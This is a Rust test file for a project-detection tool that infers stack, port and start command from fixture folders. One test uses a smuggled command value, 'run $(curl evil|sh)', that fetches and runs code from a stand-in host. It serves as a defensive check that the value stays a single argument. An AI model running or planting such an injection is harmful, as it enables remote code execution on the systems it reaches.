//! Detection over every fixture folder under tests/fixtures, snapshotted with insta.
//! No skip list: a fixture either detects, or is named `bad-*` and its error is snapshotted.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use berth_core::error::ErrorPayload;
use berth_core::stacks::{detect, Detection};
use std::path::{Path, PathBuf};

fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures")
}

fn fixtures() -> Vec<(String, PathBuf)> {
    let mut v: Vec<(String, PathBuf)> = std::fs::read_dir(fixtures_dir())
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().unwrap().is_dir())
        .map(|e| (e.file_name().into_string().unwrap(), e.path()))
        .collect();
    v.sort();
    v
}

#[test]
fn every_fixture_is_snapshotted() {
    let all = fixtures();
    let good = all.iter().filter(|(n, _)| !n.starts_with("bad-")).count();
    assert!(good >= 25, "only {good} good fixtures");
    let mut failures = Vec::new();
    for (name, path) in &all {
        match detect(path) {
            Ok(d) => {
                if name.starts_with("bad-") {
                    failures.push(format!("{name}: expected an error, got {:?}", d.stack));
                    continue;
                }
                check_evidence(name, path, &d, &mut failures);
                insta::assert_json_snapshot!(name.as_str(), d);
            }
            Err(e) => {
                if !name.starts_with("bad-") {
                    failures.push(format!("{name}: unexpected error {e}"));
                    continue;
                }
                let mut p = ErrorPayload::from(&e);
                let abs = fixtures_dir().canonicalize().unwrap();
                p.message = p
                    .message
                    .replace(
                        &path.display().to_string(),
                        &format!("tests/fixtures/{name}"),
                    )
                    .replace(&abs.display().to_string(), "tests/fixtures");
                assert!(!p.message.contains('\n'), "{name}: multi-line message");
                insta::assert_json_snapshot!(name.as_str(), p);
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Every conclusion has evidence whose file exists in the fixture and whose line is in range.
fn check_evidence(name: &str, root: &Path, d: &Detection, failures: &mut Vec<String>) {
    let mut need = vec!["stack"];
    if d.framework.is_some() {
        need.push("framework");
    }
    if d.package_manager.is_some() {
        need.push("package_manager");
    }
    if d.language_version.is_some() {
        need.push("language_version");
    }
    if !d.start_command.is_empty() {
        need.push("start_command");
    }
    if d.port.is_some() {
        need.push("port");
    }
    if d.health_path.is_some() {
        need.push("health_path");
    }
    if !d.services.is_empty() {
        need.push("services");
    }
    for field in need {
        if !d.evidence.iter().any(|e| e.field == field) {
            failures.push(format!("{name}: no evidence for {field}"));
        }
    }
    for e in &d.evidence {
        let f = root.join(&e.file);
        let Ok(text) = std::fs::read_to_string(&f) else {
            failures.push(format!("{name}: evidence file {} missing", e.file));
            continue;
        };
        if let Some(l) = e.line {
            if l == 0 || l as usize > text.lines().count() {
                failures.push(format!("{name}: {}:{l} out of range", e.file));
            }
        }
    }
    for m in &d.manifests {
        if !root.join(m).is_file() {
            failures.push(format!("{name}: manifest {m} missing"));
        }
    }
}

#[test]
fn gitignored_decoy_is_not_seen() {
    let d = detect(&fixtures_dir().join("static-site")).unwrap();
    assert_eq!(d.stack, berth_core::stacks::Stack::Static);
    assert!(d.evidence.iter().all(|e| e.file != "package.json"));
}

#[test]
fn hostile_values_are_carried_verbatim() {
    let d = detect(&fixtures_dir().join("injection-node")).unwrap();
    let pkg: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(fixtures_dir().join("injection-node/package.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(d.hints["package_name"], pkg["name"].as_str().unwrap());
    assert_eq!(
        d.hints["start_script"],
        pkg["scripts"]["start"].as_str().unwrap()
    );
    // A start script that needs a shell is never split into argv: it runs through npm.
    assert_eq!(d.start_command, ["npm", "run", "start"]);

    let d = detect(&fixtures_dir().join("injection-python")).unwrap();
    assert_eq!(
        d.start_command,
        ["run $(curl evil|sh)\nRUN curl evil|sh 'x' \"y\""],
        "a console script name is one argv element, verbatim"
    );
}

#[cfg(unix)]
#[test]
fn symlink_loops_and_non_utf8_names_do_not_break_detection() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    std::fs::write(r.join("index.html"), "<html></html>").unwrap();
    std::os::unix::fs::symlink(".", r.join("again")).unwrap();
    std::os::unix::fs::symlink("loop", r.join("loop")).unwrap();
    std::fs::write(r.join(std::ffi::OsStr::from_bytes(b"caf\xe9.html")), "").unwrap();
    let d = detect(r).unwrap();
    assert_eq!(d.stack, berth_core::stacks::Stack::Static);
    let skipped: Vec<_> = d.evidence.iter().filter(|e| e.field == "skipped").collect();
    assert_eq!(skipped.len(), 3, "{skipped:#?}");
    assert!(skipped
        .iter()
        .any(|e| e.file == "loop" && e.detail == "symbolic link loop"));
}

#[test]
fn bad_paths() {
    let dir = tempfile::tempdir().unwrap();
    let kind = |p: &Path| detect(p).unwrap_err().kind();
    use berth_core::ErrorKind::*;
    assert_eq!(kind(&dir.path().join("missing")), NotFound);
    std::fs::write(dir.path().join("file.txt"), "").unwrap();
    assert_eq!(kind(&dir.path().join("file.txt")), NotADirectory);
    assert_eq!(kind(dir.path()), NotAProject);
}

#[cfg(unix)]
#[test]
fn unreadable_manifest_is_an_error() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("package.json");
    std::fs::write(&pkg, "{}").unwrap();
    std::fs::set_permissions(&pkg, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::read(&pkg).is_ok() {
        // Running as root, permissions do not apply: on Linux use a file whose read fails
        // with EIO.
        if !cfg!(target_os = "linux") {
            return;
        }
        std::fs::remove_file(&pkg).unwrap();
        std::os::unix::fs::symlink("/proc/self/mem", &pkg).unwrap();
        assert!(
            std::fs::read(&pkg).is_err(),
            "need a file that cannot be read"
        );
    }
    assert_eq!(
        detect(dir.path()).unwrap_err().kind(),
        berth_core::ErrorKind::Unreadable
    );
}

/// Port order: Dockerfile EXPOSE > stack config > .env PORT > source > framework default.
#[test]
fn port_precedence() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let pkg = r#"{"name":"p","scripts":{"start":"node server.js"},"dependencies":{"express":"4"}}"#;
    std::fs::write(r.join("package.json"), pkg).unwrap();
    std::fs::write(r.join("server.js"), "app.get('/');\n").unwrap();
    let port = || {
        let d = detect(r).unwrap();
        let ev = d
            .evidence
            .iter()
            .find(|e| e.field == "port")
            .unwrap()
            .clone();
        (d.port.unwrap(), ev.file, ev.line)
    };
    assert_eq!(
        port(),
        (3000, "package.json".into(), None),
        "express default"
    );
    std::fs::write(r.join("server.js"), "app.get('/');\napp.listen(4000);\n").unwrap();
    assert_eq!(port(), (4000, "server.js".into(), Some(2)));
    std::fs::write(r.join(".gitignore"), ".env\n").unwrap();
    std::fs::write(r.join(".env"), "# local\nPORT=5000\n").unwrap();
    assert_eq!(
        port(),
        (5000, ".env".into(), Some(2)),
        ".env beats source even when ignored"
    );
    std::fs::write(r.join("Dockerfile"), "FROM node\nEXPOSE 6000\n").unwrap();
    assert_eq!(port(), (6000, "Dockerfile".into(), Some(2)));
}

/// Variants not worth a fixture folder each: (files, expected port, expected hint).
#[test]
fn small_variants() {
    type Case = (
        &'static [(&'static str, &'static str)],
        Option<u16>,
        Option<(&'static str, &'static str)>,
    );
    let cases: &[Case] = &[
        (
            &[
                (
                    "Api.csproj",
                    r#"<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net9.0</TargetFramework></PropertyGroup></Project>"#,
                ),
                (
                    "Program.cs",
                    "var app = WebApplication.Create(args);\napp.Run(\"http://0.0.0.0:5050\");\n",
                ),
            ],
            Some(5050),
            Some(("assembly_name", "Api")),
        ),
        (
            &[
                (
                    "package.json",
                    r#"{"devDependencies":{"vite":"5"},"scripts":{"build":"vite build"}}"#,
                ),
                (
                    "vite.config.js",
                    "export default { build: { outDir: 'public/app' } }\n",
                ),
            ],
            Some(8080),
            Some(("output_dir", "public/app")),
        ),
        (
            &[
                ("package.json", r#"{"dependencies":{"@angular/core":"18"}}"#),
                (
                    "angular.json",
                    r#"{"projects":{"web":{"architect":{"build":{"builder":"@angular-devkit/build-angular:application","options":{"outputPath":{"base":"out/web","browser":""}}}}}}}"#,
                ),
            ],
            Some(8080),
            Some(("output_dir", "out/web")),
        ),
        (
            &[
                ("requirements.txt", "flask\ngunicorn\n"),
                ("gunicorn.conf.py", "bind = \"0.0.0.0:9000\"\n"),
                (
                    "wsgi.py",
                    "from flask import Flask\napp = Flask(__name__)\n",
                ),
            ],
            Some(9000),
            Some(("app_module", "wsgi:app")),
        ),
        (
            &[
                ("go.mod", "module x\n\ngo 1.23\n"),
                ("main.go", "package main\n\nfunc main() {}\n"),
            ],
            Some(8080),
            Some(("main_package", ".")),
        ),
    ];
    for (files, port, hint) in cases {
        let dir = tempfile::tempdir().unwrap();
        for (name, body) in *files {
            std::fs::write(dir.path().join(name), body).unwrap();
        }
        let d = detect(dir.path()).unwrap();
        assert_eq!(d.port, *port, "{files:?}");
        if let Some((k, v)) = hint {
            assert_eq!(d.hints.get(*k).map(String::as_str), Some(*v), "{files:?}");
        }
    }
}

#[test]
fn database_ports_in_the_source_are_not_the_app_port() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let pkg = r#"{"main":"index.js","dependencies":{"express":"4","pg":"8"}}"#;
    std::fs::write(r.join("package.json"), pkg).unwrap();
    std::fs::write(
        r.join("index.js"),
        "const db = { host: 'pg', port: 5432 };\nconst port = process.env.PORT || 8088;\n",
    )
    .unwrap();
    let d = detect(r).unwrap();
    assert_eq!(d.port, Some(8088));
}

#[test]
fn included_requirements_are_read_and_kept_as_manifests() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    std::fs::create_dir(r.join("requirements")).unwrap();
    std::fs::write(
        r.join("requirements.txt"),
        "-r requirements/base.txt\ngunicorn\n",
    )
    .unwrap();
    std::fs::write(r.join("requirements/base.txt"), "flask\nredis\n").unwrap();
    std::fs::write(
        r.join("app.py"),
        "from flask import Flask\napp = Flask(__name__)\n",
    )
    .unwrap();
    let d = detect(r).unwrap();
    assert_eq!(d.framework.as_deref(), Some("flask"));
    assert_eq!(d.manifests, ["requirements.txt", "requirements/base.txt"]);
    assert_eq!(d.services, [berth_core::stacks::Service::Redis]);
    assert_eq!(d.start_command[0], "gunicorn");
}

/// A src layout (`poetry new`, `uv init --package`): the package imports itself by its own
/// name, so the app module drops `src.` and the image puts /app/src on PYTHONPATH (the
/// real-build suite runs such a project: tests/real/python-poetry2-fastapi-postgres).
#[test]
fn src_layout_app_module_is_importable() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    std::fs::create_dir_all(r.join("src/shop")).unwrap();
    std::fs::write(
        r.join("pyproject.toml"),
        "[project]\nname = \"shop\"\nversion = \"0.1.0\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n",
    )
    .unwrap();
    std::fs::write(r.join("src/shop/__init__.py"), "").unwrap();
    std::fs::write(
        r.join("src/shop/main.py"),
        "from fastapi import FastAPI\n\nfrom shop.db import rows\n\napp = FastAPI()\n",
    )
    .unwrap();
    let d = detect(r).unwrap();
    assert_eq!(
        d.start_command,
        [
            "uvicorn",
            "shop.main:app",
            "--host",
            "0.0.0.0",
            "--port",
            "8000"
        ]
    );
    assert_eq!(d.hints["runtime_env"], "PYTHONPATH=/app/src");
    let plan = berth_core::plan::Plan::from_detection(&d);
    assert_eq!(plan.image_env["PYTHONPATH"], "/app/src");

    // A flat layout keeps its module path and gets no PYTHONPATH.
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    std::fs::create_dir_all(r.join("shop")).unwrap();
    std::fs::write(
        r.join("pyproject.toml"),
        "[project]\nname = \"shop\"\nversion = \"0.1.0\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n",
    )
    .unwrap();
    std::fs::write(
        r.join("shop/main.py"),
        "from fastapi import FastAPI\napp = FastAPI()\n",
    )
    .unwrap();
    let d = detect(r).unwrap();
    assert_eq!(d.hints["app_module"], "shop.main:app");
    assert!(!d.hints.contains_key("runtime_env"), "{:?}", d.hints);
}

/// A pom.xml / .csproj nested 10,000 deep (about 150 KB) is refused with a clear
/// invalid_manifest error naming the file and line, through detection as a user meets it.
#[test]
fn deeply_nested_build_files_are_invalid_manifests() {
    let nested = |root: &str| {
        let mut s = format!("<{root}>\n");
        s.push_str(&"<dependency>".repeat(10_000));
        s.push_str(&"</dependency>".repeat(10_000));
        s.push_str(&format!("\n</{root}>\n"));
        s
    };
    for (file, root) in [("pom.xml", "project"), ("Api.csproj", "Project")] {
        let dir = tempfile::tempdir().unwrap();
        let text = nested(root);
        assert!(text.len() > 150_000);
        std::fs::write(dir.path().join(file), text).unwrap();
        let e = detect(dir.path()).unwrap_err();
        let p = ErrorPayload::from(&e);
        assert_eq!(p.kind, berth_core::ErrorKind::InvalidManifest, "{file}");
        assert_eq!(
            p.message,
            format!("{file}:2: elements are nested more than 256 levels deep")
        );
    }
}
